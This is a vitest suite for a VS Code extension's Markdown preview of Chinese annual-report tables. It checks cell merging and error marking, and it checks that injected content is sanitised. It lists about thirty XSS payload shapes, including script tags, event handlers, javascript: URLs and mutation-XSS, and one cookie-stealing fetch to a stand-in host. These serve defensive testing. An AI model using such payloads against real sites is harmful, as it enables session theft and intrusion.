import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it, vi } from 'vitest';
import { extendMarkdownIt, registerPreview } from '../../client/src/preview.ts';
import type { StatusParams } from '../../client/src/protocol.ts';
import { analyze } from '../../server/src/core/analysis.ts';
import { previewTables } from '../../server/src/core/features/preview.ts';

const open: { uri: string; getText(): string }[] = [];
vi.mock('vscode', () => ({
  workspace: {
    get textDocuments() {
      return open;
    },
  },
  commands: { executeCommand: () => Promise.resolve() },
}));

const practice = readFileSync(join(import.meta.dirname, '../../samples/practice.md'), 'utf8');
const uri = 'file:///年报.md';

/** The built-in preview's parser after our client has heard of a draft: what it makes of it. */
async function drawn(text: string): Promise<string> {
  const markdown = extendMarkdownIt(new MarkdownIt({ html: true }));
  let heard: (status: StatusParams) => Promise<void> = async () => {};
  const server = { request: async () => previewTables(analyze(text)) };
  registerPreview(
    server as never,
    ((listener: typeof heard) => {
      heard = listener;
      return { dispose() {} };
    }) as never,
  );
  open.splice(0, open.length, { uri, getText: () => text });
  const isReport = analyze(text).report !== undefined;
  await heard({ uri, version: 1, isReport, errors: 0, warnings: 0, information: 0, hints: 0 });
  return markdown.render(text);
}

type Element = DefaultTreeAdapterTypes.Element;

/** The elements of some HTML, as a browser reads it. */
function elements(html: string): Element[] {
  const found: Element[] = [];
  const visit = (node: DefaultTreeAdapterTypes.Node) => {
    if ('tagName' in node) found.push(node);
    if ('childNodes' in node) for (const child of node.childNodes) visit(child);
  };
  visit(parseFragment(html));
  return found;
}

const allowedTags = new Set(['table', 'tbody', 'tr', 'th', 'td', 'span']);
const allowedAttributes: Readonly<Record<string, RegExp>> = {
  rowspan: /^\d+$/,
  colspan: /^\d+$/,
  class: /^gouji-(?:table|note|error|warning|information|hint)$/,
  // Any text: a browser only shows it.
  title: /^/,
};

/** What of some tables could run, load, or leave: with the few elements and attributes that are ours, nothing. */
function foreign(html: string): string[] {
  return elements(html).flatMap(({ tagName, attrs }) => [
    ...(allowedTags.has(tagName) ? [] : [`<${tagName}>`]),
    ...attrs.flatMap(({ name, value }) => (allowedAttributes[name]?.test(value) ? [] : [`${name}=${value}`])),
  ]);
}

const scripts = [
  'alert(1)',
  'fetch("//evil.example/"+document.cookie)',
  'import("https://evil.example/x.js")',
];
const shapes: readonly ((script: string) => string)[] = [
  (s) => `<script>${s}</script>`,
  (s) => `<ScRiPt src="https://evil.example/x.js">${s}</sCrIpT>`,
  (s) => `"><script>${s}</script>`,
  (s) => `'><script>${s}</script>`,
  (s) => `</td></tr></table><script>${s}</script>`,
  (s) => `<img src=x onerror='${s}'>`,
  (s) => `"><img src="https://evil.example/a.png" onload="${s}">`,
  (s) => `" onmouseover="${s}" x="`,
  (s) => `' onfocus='${s}' autofocus tabindex=1 '`,
  (s) => `<svg onload='${s}'><a xlink:href="javascript:${s}">x</a></svg>`,
  (s) => `<iframe srcdoc="&lt;script&gt;${s}&lt;/script&gt;"></iframe>`,
  (s) => `<iframe src="javascript:${s}"></iframe>`,
  (s) => `[12](javascript:${s})`,
  (s) => `![12](https://evil.example/p.png "${s}")`,
  (s) => `<javascript:${s}>`,
  (s) => `<https://evil.example/${s}>`,
  (s) => `<a href="data:text/html,<script>${s}</script>">12</a>`,
  (s) => `<style>@import url("https://evil.example/x.css");/*${s}*/</style>`,
  (s) => `<link rel=stylesheet href="https://evil.example/x.css?${s}">`,
  (s) => `<meta http-equiv=refresh content="0;url=https://evil.example/?${s}">`,
  (s) => `<base href="https://evil.example/${s}">`,
  (s) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${s}>">`,
  (s) => `<!--><script>${s}</script>-->`,
  (s) => `<details open ontoggle='${s}'>12</details>`,
  (s) => `<form action="https://evil.example/"><button formaction="javascript:${s}">12</button></form>`,
  (s) => `&lt;script&gt;${s}&lt;/script&gt;`,
  (s) => `&#60;script&#62;${s}&#60;/script&#62;`,
  (s) => `\`<script>${s}</script>\``,
  (s) => `12<object data="https://evil.example/x.swf">${s}</object>`,
  (s) => `12<video src="https://evil.example/v.mp4" onerror="${s}">`,
];
/** Where a payload stands: alone, beside a number, before and behind, inside emphasis. */
const settings: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `12${payload}`,
  (payload) => `${payload}12`,
  (payload) => `**12**${payload}`,
];
const payloads = shapes.flatMap((shape) =>
  scripts.flatMap((script) => settings.map((setting) => setting(shape(script).replaceAll('|', '\\|')))),
);

/** The practice report with payloads: in its title, in labels, and one in every row of figures of the third table. */
function poisoned(payloads: readonly string[]): string {
  let next = 0;
  const payload = () => payloads[next++ % payloads.length] ?? '';
  return practice
    .replace('# 示例县', () => `# ${payload()}示例县`)
    .replace('| 行政强制 | 0 |', () => `| 行政强制 | ${payload()} |`)
    .replace('| 规章 | 0 |', () => `| 规章 ${payload()} | 0 |`)
    .replace(/^(\| .*[^-] \|)( \d+ \|){7}$/gm, (_, label) => `${label} ${payload()} |${' 0 |'.repeat(6)}`);
}

describe('the preview carries no script and no foreign address', () => {
  it(`of ${payloads.length} payloads in drafts`, async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(300);
    let shown = 0;
    for (let i = 0; i < payloads.length; i += 20) {
      const html = await drawn(poisoned(payloads.slice(i, i + 20)));
      for (const [table] of html.matchAll(/<table class="gouji-table">.*?<\/table>/gs)) {
        expect([table, foreign(table)]).toEqual([table, []]);
        // The table ends where we end it: nothing in it closed it before.
        expect(table.split('</tr>').length).toBe(table.split('<tr>').length);
        shown += table.split('evil.example').length - 1 + (table.split('alert(1)').length - 1);
      }
    }
    expect(shown).toBeGreaterThan(payloads.length / 2);
  });

  it('of 20,000 generated ones', () => {
    const parts = [
      ...['<', '>', '"', "'", '&', '/', '=', '`', '\\', '*', '[', ']', '(', ')', '!', '-', '#', ';', ' '],
      ...['script', 'img', 'src', 'onerror', 'javascript:', 'https://evil.example/', 'svg', 'table', 'td'],
      ...['&lt;', '&#x3c;', '&quot;', '<!--', '-->', '</', '12', '一', '〔', '\u2028', '\u0000', '\ufeff'],
    ];
    let seed = 20_251_127;
    const below = (limit: number) => {
      seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
      return (seed >>> 8) % limit;
    };
    const cell = () => Array.from({ length: 1 + below(8) }, () => parts[below(parts.length)]).join('');
    let cells = 0;
    let shown = 0;
    while (cells < 20_000) {
      const text = practice.replace(/^(\| .*[^-] \|)( \d+ \|){7}$/gm, (_, label) => {
        cells += 7;
        return `${label}${Array.from({ length: 7 }, () => ` ${cell()} |`).join('')}`;
      });
      for (const { html } of previewTables(analyze(text))) {
        expect([html, foreign(html)]).toEqual([html, []]);
        shown += html.split('&lt;').length - 1;
      }
    }
    expect(shown).toBeGreaterThan(1000);
  }, 120_000);
});

describe('the preview', () => {
  it('merges the cells as the official form does', async () => {
    const html = await drawn(practice);
    expect(html).toContain('<th rowspan="3" colspan="3">（本列数据的勾稽关系为');
    expect(html).toContain('<th colspan="7">申请人情况</th>');
    expect(html).toContain('<th rowspan="22">三、本年度办理结果</th>');
  });

  it('marks a faulty cell by outline and by words', async () => {
    expect(await drawn(practice)).toMatch(
      /<td class="gouji-error" title="此格疑有误[^"]*">11<span class="gouji-note">错误：应为 12<\/span><\/td>/,
    );
  });

  it('reads emphasis beside Chinese punctuation in a report, and only there', async () => {
    const phrase = '全年**“公开为常态”**的要求';
    const strong = '全年<strong>“公开为常态”</strong>的要求';
    expect(await drawn(`${practice}\n${phrase}\n`)).toContain(strong);
    expect(await drawn(`${phrase}\n`)).not.toContain(strong);
  });

  it('leaves the tables of other files alone', async () => {
    const table = '| 甲 | 乙 |\n|---|---|\n| 1 | 2 |\n';
    expect(await drawn(table)).toBe(new MarkdownIt({ html: true }).render(table));
  });
});
